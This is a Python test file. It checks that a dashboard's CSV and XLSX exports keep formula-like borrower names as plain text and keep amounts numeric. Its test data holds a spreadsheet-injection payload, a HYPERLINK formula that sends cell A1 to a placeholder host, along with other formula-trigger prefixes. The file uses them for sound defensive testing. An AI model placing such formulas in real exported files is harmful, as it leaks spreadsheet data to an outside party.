"""Dashboard downloads keep typed text as text: a borrower's name or a reference that starts like a
formula is not one in the CSV (a leading ') nor in the XLSX (a string cell); amounts stay numbers,
negative ones included."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from api.dashboard.tables import MONEY, Column, Table, to_csv, to_xlsx

NAMES = ['=HYPERLINK("http://x/?"&A1,"click")', "+1", "-2", "@SUM(A1:A2)", "王五"]
TABLE = Table(
    name="people",
    title="queues",
    columns=(Column("borrower"), Column("amount", MONEY)),
    rows=[(name, -150 if n == 0 else 150) for n, name in enumerate(NAMES)],
)


def test_text_that_looks_like_a_formula_stays_text() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(TABLE, "en").decode("utf-8-sig"))))[1:]
    assert [row[0] for row in rows] == ["'" + n for n in NAMES[:4]] + ["王五"]
    assert [row[1] for row in rows] == ["-1.50", "1.50", "1.50", "1.50", "1.50"]
    sheet = load_workbook(io.BytesIO(to_xlsx(TABLE, "en"))).active
    cells = list(sheet.iter_rows(min_row=2, max_row=1 + len(NAMES)))
    assert [(row[0].value, row[0].data_type) for row in cells] == [(n, "s") for n in NAMES]
    assert (cells[0][1].value, cells[0][1].data_type) == (-1.5, "n")
